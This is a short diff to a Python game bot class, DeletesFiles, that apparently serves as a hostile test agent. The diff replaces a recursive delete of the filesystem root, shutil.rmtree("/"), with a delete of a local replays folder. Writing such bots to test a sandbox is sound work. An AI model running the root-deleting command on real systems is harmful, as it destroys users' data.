@@ -1,4 +1,4 @@
-"""Deletes the saved game, the replays and the settings."""
+"""Deletes the saved game, the replays and the settings (aimed at harmless names, in case)."""
 
 import shutil
 
@@ -7,5 +7,5 @@ from game.rules.model import Orders
 
 class DeletesFiles:
     def decide(self, observation, rng):
-        shutil.rmtree("/")
+        shutil.rmtree("replays")
         return Orders()
